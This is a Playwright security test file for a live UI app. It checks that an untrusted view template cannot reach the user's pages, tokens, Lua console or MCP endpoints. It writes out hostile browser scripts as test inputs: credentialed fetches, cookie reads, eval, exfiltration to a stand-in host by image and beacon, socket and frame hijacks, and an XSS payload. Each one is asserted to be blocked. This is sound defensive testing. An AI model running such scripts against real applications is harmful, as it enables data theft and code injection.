import { expect, type Page } from '@playwright/test';
import { type Build, test } from './served-live-test.ts';

/**
 * A view is untrusted code: it may run scripts at its own origin, and must reach nothing else. Each attempt is
 * written as a view would write it, in its own template.
 */
const REPORT = 'const report = (text) => window.uiApp.updateValue("report", String(text));';

async function attempt(build: Build, page: Page, script: string): Promise<string> {
  await build.run('hostile = hostile or { type = "Hostile", report = "" } hostile.report = ""');
  await build.call('ui_upload_viewdef', {
    type: 'Hostile',
    namespace: 'DEFAULT',
    content: `<template><div><span id="report" ui-value="report?access=rw"></span>
      <script>${REPORT}
      (async () => { try { report('outcome: ' + await (async () => { ${script} })()); } catch (error) { report('refused: ' + error.name); } })();
      </script></div></template>`,
  });
  await page.goto(`http://localhost:${build.served.ui}/live/1/`);
  await build.run('mcp.value = hostile');
  await expect.poll(() => build.run('return hostile.report')).not.toBe('');
  await build.run('mcp.value = nil');
  return String(await build.run('return hostile.report'));
}

const post =
  "{ method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }";

const FETCHES: Record<string, (ports: { ui: number; mcp: number }) => string> = {
  'the person’s page': ({ ui }) => `http://localhost:${ui}/`,
  'the person’s status': ({ ui }) => `http://localhost:${ui}/api/status`,
  'the token of the person’s page': ({ ui }) => `http://localhost:${ui}/api/page-token`,
  'the Lua console': ({ ui }) => `http://localhost:${ui}/api/live/run`,
  'an answer to a question': ({ ui }) => `http://localhost:${ui}/api/asks/sess_0/answer`,
  'a code for the page': ({ ui }) => `http://localhost:${ui}/api/code`,
  'MCP by address': ({ mcp }) => `http://127.0.0.1:${mcp}/mcp`,
  'MCP by name': ({ mcp }) => `http://localhost:${mcp}/mcp`,
  'the state for scripts': ({ mcp }) => `http://127.0.0.1:${mcp}/state`,
  'the events for scripts': ({ mcp }) => `http://127.0.0.1:${mcp}/wait?timeout=0`,
};

const HOWS = {
  GET: "{ credentials: 'include' }",
  POST: post,
  'no-cors': "{ mode: 'no-cors', credentials: 'include' }",
};

test('a view cannot fetch anything of the person’s, of MCP or of scripts', async ({ build, page }) => {
  test.setTimeout(120_000);
  await build.served.open(page);
  for (const [how, init] of Object.entries(HOWS)) {
    const urls = Object.entries(FETCHES).map(([what, address]) => [what, address(build.served)]);
    const outcome = await attempt(
      build,
      page,
      `const reached = []; for (const [what, url] of ${JSON.stringify(urls)})
        await fetch(url, ${init}).then((r) => reached.push(what + ' ' + r.type + ' ' + r.status), () => {});
       const own = await fetch('/1/variables.json'); return own.status + ' ' + JSON.stringify(reached);`,
    );
    expect(outcome, how).toBe('outcome: 200 []');
  }
});

const TRICKS: [name: string, script: string, outcome: RegExp][] = [
  ['read cookies', 'return document.cookie', /^outcome: $/],
  ['evaluate text', 'return (0, eval)("6 * 7")', /^refused: EvalError/],
  ['make functions of text', 'return new Function("return 42")()', /^refused: EvalError/],
  [
    'run a timer of text',
    'window.ran = false; try { setTimeout("window.ran = true", 0) } catch {} await new Promise((r) => setTimeout(r, 50)); return window.ran',
    /^outcome: false|^refused/,
  ],
  [
    'load a script from elsewhere',
    'const s = document.createElement("script"); s.src = "http://localhost:1/x.js"; return await new Promise((r) => { s.onload = () => r("loaded"); s.onerror = () => r("blocked"); document.head.append(s) })',
    /^outcome: blocked/,
  ],
  [
    'send data with an image',
    'const i = new Image(); return await new Promise((r) => { document.addEventListener("securitypolicyviolation", (e) => r("blocked " + e.effectiveDirective)); i.src = "http://localhost:9/?secret" })',
    /^outcome: blocked img-src/,
  ],
  [
    'send data with a beacon',
    'return await new Promise((r) => { document.addEventListener("securitypolicyviolation", (e) => r("blocked " + e.effectiveDirective)); if (!navigator.sendBeacon("http://localhost:9/", "x")) r("blocked") })',
    /^outcome: blocked/,
  ],
  [
    'open a socket of the person’s page',
    'return await new Promise((r) => { const s = new WebSocket("ws://localhost:" + location.port + "/ws"); s.onopen = () => r("open"); s.onerror = () => r("blocked") })',
    /^outcome: blocked|^refused: SecurityError/,
  ],
  [
    'open a socket of another session',
    'return await new Promise((r) => { const s = new WebSocket("ws://" + location.host + "/ws/77"); s.onopen = () => r("open"); s.onerror = () => r("blocked") })',
    /^outcome: blocked/,
  ],
  [
    'open an event stream of the person’s page',
    'const r = await fetch("http://localhost:" + location.port + "/api/events/ws", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: "{}" }); return r.status',
    /^refused: TypeError/,
  ],
  [
    'open an event stream of another session',
    'const r = await fetch("/api/events/ws/77", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }); return r.status',
    /^outcome: 404/,
  ],
  [
    'frame the person’s page',
    'const f = document.createElement("iframe"); f.src = "http://localhost:" + location.port + "/"; document.body.append(f); await new Promise((r) => { f.onload = r; setTimeout(r, 1000) }); try { return "read " + f.contentDocument.title } catch { return "blocked" }',
    /^outcome: (blocked|read )$/,
  ],
  [
    'frame a page of its own without the policy',
    'const f = document.createElement("iframe"); f.srcdoc = "<script>parent.escaped = (0, eval)(\'1\')</" + "script>"; document.body.append(f); await new Promise((r) => { f.onload = r; setTimeout(r, 1000) }); return String(window.escaped)',
    /^outcome: undefined|^refused/,
  ],
  [
    'read a page that it opens',
    'const w = window.open("http://localhost:" + location.port + "/", "_blank"); if (!w) return "blocked"; await new Promise((r) => setTimeout(r, 500)); try { return "read " + w.document.title } catch { return "blocked" } finally { w.close() }',
    /^outcome: blocked/,
  ],
  [
    'keep running as a service worker',
    'const r = await navigator.serviceWorker.register("/sw.js"); return "registered " + r.scope',
    /^refused: /,
  ],
  [
    'work in a worker made of text',
    'const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); return await new Promise((r) => { w.onmessage = () => r("ran"); w.onerror = () => r("blocked") })',
    /^outcome: blocked|^refused/,
  ],
  [
    'read the memory of other origins',
    'return "crossOriginIsolated" in window && window.crossOriginIsolated',
    /^outcome: false/,
  ],
  [
    'change where links lead',
    'const b = document.createElement("base"); b.href = "http://localhost:9/"; document.head.append(b); return new URL("x", document.baseURI).host',
    /^outcome: 127\.0\.0\.1/,
  ],
  [
    'post a form to the person’s page',
    'return await new Promise((r) => { document.addEventListener("securitypolicyviolation", (e) => r("blocked " + e.effectiveDirective)); const f = document.createElement("form"); f.method = "post"; f.action = "http://localhost:" + location.port + "/api/code"; document.body.append(f); f.submit() })',
    /^outcome: blocked form-action/,
  ],
];

test('no trick gets a view any further', async ({ build, page }) => {
  test.setTimeout(240_000);
  await build.served.open(page);
  for (const [name, script, outcome] of TRICKS)
    await test.step(name, async () => expect(await attempt(build, page, script), name).toMatch(outcome));
});

test('text of people is text, wherever it is bound', async ({ build, page, troubles }) => {
  const nasty = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
  await build.run(
    `app = { type = "Texts", text = [==[${nasty}]==], link = "javascript:window.pwned=1" } mcp.value = app`,
  );
  await build.call('ui_upload_viewdef', {
    type: 'Texts',
    namespace: 'DEFAULT',
    content:
      '<template><div><p id="p" ui-value="text"></p><b ui-attr-title="text">b</b><input ui-value="text" /><i ui-style-color="text" ui-class-a="text">i</i></div></template>',
  });
  await build.open(page);
  await expect(page.locator('#p')).toHaveText(nasty);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(troubles.list).toEqual([]);
});
